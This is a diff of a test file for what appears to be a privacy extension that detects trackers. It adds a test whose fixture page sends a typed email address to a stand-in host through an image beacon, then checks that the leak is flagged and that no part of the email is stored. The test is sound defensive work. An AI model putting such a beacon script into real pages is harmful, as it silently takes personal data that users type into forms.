@@ -48,7 +48,7 @@ test('what is kept of a page is its origin; no path, no query, no value of a coo
   );
   const tab = await open('http://clinic.test/secret-illness?q=secret-query#secret-fragment');
   await until(tab, (view) => {
-    expect(found(view)).toEqual(['hotjar']);
+    expect(found(view)).toEqual(['hotjar', 'tracking-pixel']);
     expect(hosts(view)).toEqual(['third.test']);
   });
   const stored = async () => {
@@ -58,4 +58,27 @@ test('what is kept of a page is its origin; no path, no query, no value of a coo
   };
   await expect.poll(stored, { timeout: 10_000 }).toContain('http://clinic.test');
   expect((await stored()).replaceAll('secret-free', '')).not.toContain('secret');
+});
+
+test('of a typed text that leaves, the fact is kept and no letter of it', async () => {
+  const { web, open, until, inside, session } = telltale;
+  web.put(
+    'http://form.test/',
+    `<input type="email" id="email"><script>
+       email.onchange = () => { new Image().src = 'http://listens.test/p.gif?e=' + encodeURIComponent(email.value); };
+     </script>`,
+  );
+  const tab = await open('http://form.test/');
+  const target = await session.browser.waitForTarget((one) => one.url() === 'http://form.test/');
+  const page = (await target.page())!;
+  await page.type('#email', 'jane.roe@example.com');
+  await page.evaluate(() => (document.activeElement as HTMLElement).blur());
+  await until(tab, (view) => expect(found(view)).toContain('typed-text-leak'));
+  const stored = async () => {
+    const rows = await inside(readLedger, periodNow());
+    const rest = await inside(() => (globalThis as unknown as Inside).chrome.storage.local.get());
+    return JSON.stringify([rows, rest]);
+  };
+  await expect.poll(stored, { timeout: 10_000 }).toContain('typed-text-leak');
+  expect(await stored()).not.toMatch(/jane|roe|example\.com|amFuZS/);
 });
